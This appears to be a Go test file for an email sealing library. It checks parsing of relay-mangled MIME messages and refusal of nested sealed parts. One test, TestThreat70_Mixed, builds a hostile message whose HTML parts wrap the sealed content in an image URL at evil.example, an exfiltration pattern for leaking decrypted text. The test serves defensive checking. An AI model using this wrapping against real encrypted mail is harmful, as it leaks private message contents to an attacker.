package mailseal

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"io"
	"mime/quotedprintable"
	"slices"
	"strings"
	"testing"
)

// pieces are the contents of the two parts of a sealed message.
type pieces struct{ control, bulk []byte }

func sealedPieces(t *testing.T, inner []byte) pieces {
	t.Helper()
	outer, _ := seal(t, inner, testOptions())
	o, err := open(outer)
	if err != nil {
		t.Fatal(err)
	}
	bulk, err := readAll(o.bulk)
	if err != nil {
		t.Fatal(err)
	}
	return pieces{o.content, bulk}
}

func lines64(b []byte, n int, eol string) string {
	var out strings.Builder
	for s := base64.StdEncoding.EncodeToString(b); len(s) > 0; s = s[min(n, len(s)):] {
		out.WriteString(s[:min(n, len(s))] + eol)
	}
	return out.String()
}

func quoted(b []byte) string {
	var out bytes.Buffer
	w := quotedprintable.NewWriter(&out)
	w.Binary = true
	if _, err := w.Write(b); err != nil {
		panic(err)
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return out.String()
}

func entity(mediaType, encoding, body string) string {
	return fmt.Sprintf("Content-Type: %s\r\nContent-Transfer-Encoding: %s\r\n\r\n%s", mediaType, encoding, body)
}

func multi(sub, boundary string, parts ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Content-Type: multipart/%s; boundary=%s\r\n\r\n", sub, boundary)
	for _, p := range parts {
		b.WriteString("--" + boundary + "\r\n" + p + "\r\n")
	}
	return b.String() + "--" + boundary + "--\r\n"
}

// TestMangled opens what relays make of a sealed message.
func TestMangled(t *testing.T) {
	for _, size := range []int{4000, 100_000} {
		inner := sized(size)
		p := sealedPieces(t, inner)
		c64 := entity(ControlType, "base64", lines64(p.control, 76, "\r\n"))
		b64 := entity(BulkType, "base64", lines64(p.bulk, 76, "\r\n"))
		text := "Content-Type: text/plain\r\n\r\nfooter of a list\r\n"
		named := func(b []byte) string {
			return "Content-Type: APPLICATION/Octet-Stream; name=\"noname\"\r\nContent-Disposition: attachment\r\nContent-Transfer-Encoding: Base64\r\n\r\n" + lines64(b, 64, "\r\n")
		}
		for _, tt := range []struct {
			name, message string
			control, bulk []int
		}{
			{"as mixed", multi("mixed", "m", c64, b64), []int{1}, []int{2}},
			{"text before", multi("mixed", "m", text, c64, b64), []int{2}, []int{3}},
			{"footer", multi("mixed", "m", c64, b64, text), []int{1}, []int{2}},
			{"between", multi("mixed", "m", c64, text, b64), []int{1}, []int{3}},
			{"wrapped", multi("mixed", "m", multi("encrypted", "e", c64, b64), text), []int{1, 1}, []int{1, 2}},
			{"reordered", multi("mixed", "m", b64, c64), []int{2}, []int{1}},
			{"another attachment", multi("mixed", "m", c64, b64, named([]byte("x"))), []int{1}, []int{2}},
			{"renamed", multi("mixed", "m", c64, named(p.bulk)), []int{1}, []int{2}},
			{"one long line", multi("mixed", "m", entity(ControlType, "base64", lines64(p.control, 1<<30, "\r\n")), entity(BulkType, "base64", lines64(p.bulk, 1<<30, "\r\n"))), []int{1}, []int{2}},
			{"short lines", multi("mixed", "m", entity(ControlType, "base64", lines64(p.control, 9, "\r\n")), entity(BulkType, "base64", lines64(p.bulk, 61, " \r\n"))), []int{1}, []int{2}},
			{"bare LF", strings.ReplaceAll(multi("mixed", "m", c64, b64), "\r\n", "\n"), []int{1}, []int{2}},
			{"quoted-printable", multi("mixed", "m", entity(ControlType, "quoted-printable", quoted(p.control)), entity(BulkType, "quoted-printable", quoted(p.bulk))), []int{1}, []int{2}},
			{"binary", multi("mixed", "m", entity(ControlType, "8bit", string(p.control)), entity(BulkType, "binary", string(p.bulk))), []int{1}, []int{2}},
			{"encoding forgotten", multi("mixed", "m", entity(ControlType, "7bit", lines64(p.control, 76, "\r\n")), b64), []int{1}, []int{2}},
			{"preamble", strings.Replace(multi("mixed", "m", c64, b64), "\r\n\r\n--m", "\r\n\r\nThis message was scanned\r\n--m", 1), []int{1}, []int{2}},
			{"not closed", strings.TrimSuffix(multi("mixed", "m", c64, b64), "--m--\r\n"), []int{1}, []int{2}},
		} {
			t.Run(fmt.Sprint(tt.name, " ", size), func(t *testing.T) {
				o, err := open([]byte("Subject: [...] x\r\nMIME-Version: 1.0\r\n" + tt.message))
				if err != nil {
					t.Fatal(err)
				}
				if !slices.Equal(o.loc.ControlPath, tt.control) || !slices.Equal(o.loc.BulkPath, tt.bulk) {
					t.Errorf("found at %v and %v", o.loc.ControlPath, o.loc.BulkPath)
				}
				if o.outer.Find(o.loc.ControlPath) != o.loc.Control || o.outer.Find(o.loc.BulkPath) != o.loc.Bulk {
					t.Error("paths name other parts")
				}
				got, err := readAll(o.message)
				if err != nil || !bytes.Equal(got, inner) {
					t.Error("other octets", err)
				}
			})
		}
	}
	p := sealedPieces(t, sized(4000))
	o, err := open([]byte(multi("mixed", "m", entity(ControlType, "base64", lines64(p.control, 76, "\r\n")), "\r\nfooter\r\n")))
	if err != nil || o.loc.Bulk != nil {
		t.Errorf("empty bulk part dropped: %v", err)
	}
}

// TestThreat59_NothingElseIsOpened: a sealed message inside another message is
// not opened, and of several none is.
func TestThreat59_NothingElseIsOpened(t *testing.T) {
	p := sealedPieces(t, sized(4000))
	c64 := entity(ControlType, "base64", lines64(p.control, 76, "\r\n"))
	b64 := entity(BulkType, "base64", "")
	sealed := multi("encrypted", "e", c64, b64)
	for _, tt := range []struct{ name, message string }{
		{"attached", multi("mixed", "m", "Content-Type: text/plain\r\n\r\nsee below\r\n", "Content-Type: message/rfc822\r\n\r\n"+sealed)},
		{"forwarded", "Content-Type: message/rfc822\r\n\r\n" + sealed},
		{"digest", multi("digest", "d", "\r\n"+sealed)},
		{"deep", multi("mixed", "1", multi("mixed", "2", multi("mixed", "3", c64, b64)))},
		{"two", multi("mixed", "m", c64, b64, c64)},
		{"two levels", multi("mixed", "m", c64, b64, sealed)},
		{"alone", c64},
		{"text", "Content-Type: text/plain\r\n\r\n" + sealed},
		{"as a message", multi("mixed", "m", "Content-Type: multipart/x; boundary=q\r\n\r\n", entity("message/rfc822", "base64", lines64(p.control, 76, "\r\n")), b64)},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if o, err := open([]byte("MIME-Version: 1.0\r\n" + tt.message)); err == nil || err.Error() != "not a sealed message" {
				t.Errorf("opened: %v %v", o, err)
			}
		})
	}
}

// TestThreat70_Mixed: what stands beside the sealed parts never gets into the
// view.
func TestThreat70_Mixed(t *testing.T) {
	inner := []byte("From: a@a.example\r\nSubject: inner\r\n\r\ninner text\r\n")
	p := sealedPieces(t, inner)
	message := "Subject: CANARY\r\nReply-To: CANARY@evil.example\r\nMIME-Version: 1.0\r\n" + multi("mixed", "m",
		"Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/CANARY\r\n",
		entity(ControlType, "base64", lines64(p.control, 76, "\r\n")),
		entity(BulkType, "base64", ""),
		"Content-Type: text/html\r\n\r\nCANARY\">\r\n")
	o, err := open([]byte(message))
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(io.NewSectionReader(NewView(o.outer.Header, "x", o.message), 0, 1<<20))
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(b, []byte("CANARY")) || !bytes.HasSuffix(b, inner) {
		t.Errorf("view is %q", b)
	}
}
